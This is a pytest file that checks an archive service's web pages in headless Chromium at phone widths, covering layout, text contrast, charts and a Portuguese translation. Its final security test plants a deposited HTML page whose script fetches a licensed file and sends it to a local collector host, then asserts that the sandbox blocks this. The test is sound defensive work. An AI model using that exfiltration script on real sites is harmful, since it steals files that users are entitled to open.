"""The Archive's pages in a real browser (issue 18): Debian's chromium, headless, at a phone's
width (360 CSS pixels), against a real `archive-service serve`. Each page fits the width (no
horizontal scrolling), its text contrasts 7:1 or more with its background (WCAG AAA), and its
screenshot is a 360 x 800 picture with something on it. The statistics page's charts (issue
20) are visible and within the width."""

from __future__ import annotations

from pathlib import Path

import pytest

from serve_process import serve_collection
from support import PHONE, SERVICE, png_facts, record_month_of_uses

pytestmark = [pytest.mark.process, pytest.mark.slow]

PAGES = {
    "archive": "/",
    "items": f"/{SERVICE}/items",
    "search": f"/{SERVICE}/items?q=banon",
    "about": f"/{SERVICE}/about",
    "statistics": f"/{SERVICE}/statistics",
    "filelist": f"/{SERVICE}/filelist/iconet.com.br/banon/2009/09.09.22.01",
    "metadata": f"/{SERVICE}/metadata/iconet.com.br/banon/2012/03.05.08.15",
}


# The colour of every element that holds text of its own, as the browser computed it, with the
# background it is drawn on (the nearest ancestor's that is not transparent).
TEXT_COLOURS = """
const found = [];
for (const el of document.body.querySelectorAll('*')) {
  const own = [...el.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
  if (!own || el.offsetParent === null && el.tagName !== 'BODY') continue;
  let back = el, bg = 'rgba(0, 0, 0, 0)';
  while (back && (bg = getComputedStyle(back).backgroundColor) === 'rgba(0, 0, 0, 0)')
    back = back.parentElement;
  found.push([el.tagName, getComputedStyle(el).color, back ? bg : 'rgb(255, 255, 255)']);
}
return found;
"""


def contrast(foreground: str, background: str) -> float:
    """WCAG 2's contrast ratio of two CSS rgb() colours."""

    def luminance(css: str) -> float:
        channels = [int(c) / 255 for c in css[css.index("(") + 1 : -1].split(",")[:3]]
        r, g, b = (c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels)
        return 0.2126 * r + 0.7152 * g + 0.0722 * b

    high, low = sorted((luminance(foreground), luminance(background)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.fixture(scope="module")
def shots(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("screenshots")


def test_the_pages_fit_a_phone_and_show_something(served_copy, phone_browser, shots):
    width, height = PHONE
    for name, path in PAGES.items():
        phone_browser.get(f"http://{served_copy.address}{path}")
        title = phone_browser.title
        assert title and "Error" not in title, (name, title)
        inner = phone_browser.execute_script("return window.innerWidth")
        assert inner == width, (name, inner)  # the viewport meta at work
        scroll = phone_browser.execute_script("return document.documentElement.scrollWidth")
        assert scroll <= width, f"{name}: {scroll} px wide, more than the phone's {width}"
        for tag, colour, background in phone_browser.execute_script(TEXT_COLOURS):
            ratio = contrast(colour, background)
            assert ratio >= 7, f"{name}: {tag} text {colour} on {background}: {ratio:.1f}:1"
        png = phone_browser.get_screenshot_as_png()
        shot = shots / f"{name}.png"
        shot.write_bytes(png)
        got_width, got_height, rows = png_facts(shot.read_bytes())
        assert (got_width, got_height) == (width, height), (name, got_width, got_height)
        assert rows > 20, f"{name}: the screenshot looks blank ({rows} distinct rows)"


# Each chart's box as laid out, and whether the point at its middle is the chart's own.
CHARTS = """
return [...document.querySelectorAll('svg.chart')].map(svg => {
  const box = svg.getBoundingClientRect();
  svg.scrollIntoView();
  const now = svg.getBoundingClientRect();
  const hit = document.elementFromPoint(now.left + now.width / 2, now.top + now.height / 2);
  return [box.left, box.right, box.width, box.height, svg.contains(hit),
          getComputedStyle(svg).visibility, svg.querySelectorAll('rect.bar').length];
});
"""


def test_the_statistics_charts_fit_a_phone(served_copy, phone_browser, tmp_path):
    """Issue 20: both charts of a month of uses built by hand are drawn, visible and within
    the width; the whole page is saved as a picture (docs/statistics.png is one of these)."""
    record_month_of_uses(tmp_path / "state")  # WAL: written while serve runs
    width, height = PHONE
    phone_browser.get(f"http://{served_copy.address}/{SERVICE}/statistics?month=2026-01")
    assert phone_browser.title.startswith("Statistics")
    charts = phone_browser.execute_script(CHARTS)
    assert [c[6] for c in charts] == [30, 12]
    for left, right, chart_width, chart_height, hit, visibility, _ in charts:
        assert visibility == "visible" and hit, charts
        assert 0 <= left and right <= width, f"the chart spans {left}..{right} of {width} px"
        assert chart_width > width * 0.8 and chart_height > 100, charts
    scroll = phone_browser.execute_script("return document.documentElement.scrollWidth")
    assert scroll <= width, f"the page is {scroll} px wide, more than the phone's {width}"

    # The whole page, as tall as it is, for people to look at.
    full = phone_browser.execute_script("return document.documentElement.scrollHeight")
    phone_browser.execute_cdp_cmd(
        "Emulation.setDeviceMetricsOverride",
        {"width": width, "height": full, "deviceScaleFactor": 1, "mobile": True},
    )
    phone_browser.execute_script("window.scrollTo(0, 0)")
    shot = tmp_path / "statistics.png"
    shot.write_bytes(phone_browser.get_screenshot_as_png())
    got_width, got_height, rows = png_facts(shot.read_bytes())
    assert (got_width, got_height) == (width, full) and full > height
    assert rows > 100, f"the screenshot looks blank ({rows} distinct rows)"


PORTUGUESE_PHONE = (390, 844)  # CSS pixels: a current phone held upright


def test_the_pages_in_portuguese_fit_a_phone(served_copy, phone_browser, shots):
    """Issue 32: the switch to Português (Brasil) sticks from page to page (its cookie), the
    longer words still fit a 390 px phone, and each page is saved as a picture to look at."""
    width, height = PORTUGUESE_PHONE
    phone_browser.execute_cdp_cmd(
        "Emulation.setDeviceMetricsOverride",
        {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": True},
    )
    phone_browser.get(f"http://{served_copy.address}/{SERVICE}/about?lang=pt-BR")
    for name, path in PAGES.items():
        phone_browser.get(f"http://{served_copy.address}{path}")
        lang = phone_browser.execute_script("return document.documentElement.lang")
        assert lang == "pt-BR", (name, lang)
        scroll = phone_browser.execute_script("return document.documentElement.scrollWidth")
        assert scroll <= width, f"{name}: {scroll} px wide, more than the phone's {width}"
        shot = shots / f"pt-BR-{name}.png"
        shot.write_bytes(phone_browser.get_screenshot_as_png())
        got_width, got_height, rows = png_facts(shot.read_bytes())
        assert (got_width, got_height) == (width, height), (name, got_width, got_height)
        assert rows > 20, f"{name}: the screenshot looks blank ({rows} distinct rows)"
        assert name != "items" or phone_browser.title.startswith("Itens"), phone_browser.title


# A page someone deposits in an open item: it reads a licensed item's file the user may have
# (same origin, so the browser lets it) and sends it to another host (issue 30, finding 4).
LICENSED = "sid.inpe.br/mtc-m19/2014/02.11.10.05"
OPEN_ITEM = "iconet.com.br/banon/2009/09.09.22.01"
EXFIL = """<!doctype html><title>exfil</title><script>
fetch('/col/{licensed}/doc/article.pdf').then(r => r.text())
  .then(t => fetch('http://127.0.0.1:{collector}/got?' + t.length, {{mode: 'no-cors'}}))
  .catch(e => fetch('http://127.0.0.1:{collector}/error', {{mode: 'no-cors'}}));
</script>"""
READ_LICENSED = """
const done = arguments[arguments.length - 1];
fetch('/col/%s/doc/article.pdf').then(r => r.text())
  .then(t => done([self.origin, 'read', t.length]))
  .catch(e => done([self.origin, 'refused', String(e)]));
"""


def test_a_deposited_page_cannot_read_a_licensed_file_and_send_it_away(
    collection, tmp_path, phone_browser
):
    from resolver_support import ThreadedServer
    from serve_process import free_port

    heard: list[str] = []

    def collector(environ, start_response):
        heard.append(environ["PATH_INFO"])
        start_response("204 No Content", [])
        return []

    port = free_port()
    listener = ThreadedServer(collector, port)
    sidecar = collection / LICENSED / "item.yaml"  # the browser is inside its networks
    sidecar.write_text(sidecar.read_text().replace("    - 150.163.0.0/16", "    - 127.0.0.0/8"))
    (collection / OPEN_ITEM / "doc" / "exfil.html").write_text(
        EXFIL.format(licensed=LICENSED, collector=port)
    )
    serve = serve_collection(tmp_path, collection, tmp_path / "state")
    try:
        serve.wait_answering(timeout=60)
        base = f"http://{serve.address}"
        phone_browser.get(f"{base}/col/{LICENSED}/doc/article.pdf")  # the user may have it
        phone_browser.get(f"{base}/col/{OPEN_ITEM}/doc/exfil.html")
        phone_browser.set_script_timeout(20)
        # What a script of the page would get, had it run: the page has an origin of its
        # own, so the Archive's files are another origin's, not readable without CORS.
        origin, outcome, _ = phone_browser.execute_async_script(READ_LICENSED % LICENSED)
        assert (origin, outcome) == ("null", "refused")
        # And the page's own script sent nothing (it ran not at all).
        phone_browser.get(f"http://127.0.0.1:{port}/after")
        assert "/after" in heard and not {"/got", "/error"} & set(heard), heard
        assert serve.stop() == 0
    finally:
        serve.kill()
        listener.close()
